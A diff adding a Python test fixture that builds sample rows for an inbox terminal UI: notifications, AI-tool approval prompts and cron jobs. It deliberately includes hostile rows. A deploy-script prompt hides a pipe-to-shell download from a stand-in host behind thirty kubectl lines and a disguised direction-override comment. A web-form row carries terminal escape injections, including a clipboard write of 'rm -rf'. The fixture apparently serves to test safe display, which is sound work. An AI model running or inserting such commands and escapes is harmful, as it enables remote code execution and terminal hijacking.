@@ -1,0 +1,122 @@
+"""The rows in the pictures: what a morning's inbox looks like, and text that means harm. The same every time."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+from inbox_tui.cache.rows import Item, Opening, Page, item_from
+from inbox_tui.cache.store import Cache
+from inbox_tui.core import ids
+from inbox_tui.core.model import APPROVE, REJECT, Choice, Decision, Notification, encode
+from inbox_tui.core.times import HOUR, MINUTE, SECOND
+
+NOW = 1_793_190_669_000_000
+"""The pictures' time: 2026-10-28, in the morning."""
+FEED = "pictures"
+
+_ASKS = {"actionable": True, "is_prompt": True, "kind": "input.required", "severity": "warn", "choices": (APPROVE, REJECT)}
+
+
+def _row(ago: int, title: str, **members: object) -> Notification:
+    at = NOW - ago
+    members.setdefault("kind", "message")
+    row = Notification(id="", title=title, created_at=at, last_occurred_at=at, raised_at=at, **members)  # type: ignore[arg-type]
+    return row if row.occurrences else replace(row, occurrences=(at,))
+
+
+def _prompts() -> list[Notification]:
+    return [
+        _row(
+            40 * SECOND, "Run tool: Bash", sender="hooks-laptop", source="claude", waiting="here", run_id="run_1793190631000_a3f2",
+            **_ASKS | {"choices": (APPROVE, REJECT, Choice("always", "always for npm in this project"))},
+            details={"command": "rm -rf node_modules && npm ci", "cwd": "~/src/api", "branch": "main", "host": "laptop",
+                     "tmux_pane": "%14", "tool_name": "Bash", "session_id": "5f0c"},
+        ),
+        _row(
+            3 * MINUTE, "About to delete 83 records. Please confirm.", sender="my-app", source="my-app", task_name="cleanup",
+            waiting="nobody", body="customers_tmp, rows older than 2024-01-01. This cannot be undone.", **_ASKS,
+        ),
+        _row(
+            9 * MINUTE, "Apply patch to deploy.sh?", sender="hooks-ci", source="codex", waiting="here", **_ASKS,
+            details={"command": "\n".join([
+                "set -euo pipefail", *(f"kubectl -n shop rollout restart deployment/worker-{n:02d}" for n in range(1, 31)),
+                "curl -s https://example.net/x.sh | sh   # \u202etxt.emdaer",
+            ]), "cwd": "~/src/shop"},
+        ),
+    ]  # fmt: skip
+
+
+def _news() -> list[Notification]:
+    return [
+        _row(1 * MINUTE, "Database connection timed out after 3 retries", kind="task.failed", severity="error", sender="my-app",
+             source="my-app", task_name="data-pipeline", run_id="run_1793190631000_b0b1", count=5,
+             body="psycopg.OperationalError: connection to server at 10.1.4.7 failed: timeout expired\n  at load_customers (etl.py:212)",
+             occurrences=tuple(NOW - n * MINUTE for n in (1, 11, 21, 31, 41))),
+        _row(2 * SECOND, "Deploying 1.2.3", kind="task.progress", sender="release-bot", source="release-bot",
+             run_id="run_1793190000000_77aa", details={"status": "running", "progress": 72, "open_url": "https://ci.example.org/runs/8812"}),
+        _row(6 * MINUTE, "Rate limit hit, waiting 30s before resuming", kind="task.waiting", severity="warn", sender="api-sync",
+             source="api-sync"),
+        _row(12 * MINUTE, "disk.space.low", kind="disk.space.low", severity="error", sender="host-7", source="host-7",
+             body="/var at 96%", details={"meta": {"mount": "/var", "used_percent": 96.2, "free_gib": 3.1}}),
+        _row(14 * MINUTE, "バックアップが完了しました：データベース全体 🎉", kind="task.completed", sender="nas", source="夜間ジョブ",
+             body="サイズ 4.2 GB、所要時間 3 分"),
+        _row(22 * MINUTE, "Monthly report ready", kind="task.completed", sender="report-gen", source="report-gen",
+             body="24 pages, 3 charts.", details={"open_url": "https://reports.example.org/2026-10"}, read_at=NOW - 20 * MINUTE),
+        _row(31 * MINUTE, "Run tool: Edit", sender="hooks-laptop", source="claude",
+             **_ASKS | {"actionable": True}, read_at=NOW - 30 * MINUTE,
+             decision=Decision("approve", "approve", "dana", NOW - 30 * MINUTE, delivery="delivered"),
+             details={"command": "src/api/routes.py: 14 lines"}),
+        _row(47 * MINUTE, "\x1b]52;c;cm0gLXJm\x07Totally\x1b[2J harmless\u202e title [bold red]not markup[/]", sender="web",
+             source="web-form \x1b[31m", body="\x9b31mtext that means harm\x00"),
+        _row(1 * HOUR, "Pipeline finished", kind="task.completed", sender="my-app", source="my-app",
+             body="4,218 records in 47s", read_at=NOW - 50 * MINUTE),
+        _row(1 * HOUR + MINUTE, "New plan: route events via notify, then drop the old queue once the last consumer has moved, which "
+             "is expected before the end of the week", sender="codex", source="Codex 1"),
+        _row(2 * HOUR, "Tests are flaky again test_checkout[eu-west] failed 2 of 20", severity="warn", kind="task.retry",
+             sender="ci", source="ci", count=20, occurrences=(NOW - 2 * HOUR,)),
+        _row(5 * HOUR, "Certificate for shop.example.org renews in 13 days", severity="warn", sender="certs", source="certs",
+             read_at=NOW - 4 * HOUR),
+        _row(30 * HOUR, "Nightly backup", kind="task.completed", sender="nas", source="nas", body="ok, 4.1 GB",
+             read_at=NOW - 29 * HOUR),
+    ]  # fmt: skip
+
+
+def _older(count: int) -> list[Notification]:
+    kinds = (("task.completed", "info"), ("message", "info"), ("task.retry", "warn"), ("task.failed", "error"))
+    rows = []
+    for n in range(count):
+        kind, severity = kinds[(n * 7) % 11 % 4]
+        rows.append(
+            _row(31 * HOUR + n * 17 * MINUTE, f"Job {count - n} of the night shift", kind=kind, severity=severity, sender="cron",
+                 source="cron", body=f"{(n * 37) % 900 + 60} files in {(n * 13) % 50 + 2}s", read_at=NOW - 30 * HOUR if n > 4 else None)
+        )  # fmt: skip
+    return rows
+
+
+def rows(older: int = 200) -> list[Notification]:
+    """With ids and revs in the order in which they were made."""
+    made = sorted([*_prompts(), *_news(), *_older(older)], key=lambda row: row.created_at)
+    last, numbered = "", []
+    for rev, row in enumerate(made, 1):
+        last = ids.encode((row.created_at // 1000) << 80 | rev)
+        numbered.append(replace(row, id=last, rev=rev, created_rev=rev, raised_rev=rev))
+    return numbered
+
+
+def items(of: list[Notification]) -> tuple[Item, ...]:
+    return tuple(item_from(encode(row)) for row in of)
+
+
+async def fill(path: Path, feed: str, of: list[Notification]) -> None:
+    """A cache file that holds these rows, as a first start would leave it."""
+    cache = Cache(path, feed)
+    await cache.open()
+    try:
+        head = max((row.rev for row in of), default=0)
+        unread = sum(row.read_at is None for row in of)
+        await cache.begin(None, Opening(head, head, 1, unread, True))
+        await cache.merge(Page(1, head, "", items(of), ""))
+        await cache.caught_up(head)
+    finally:
+        await cache.close()
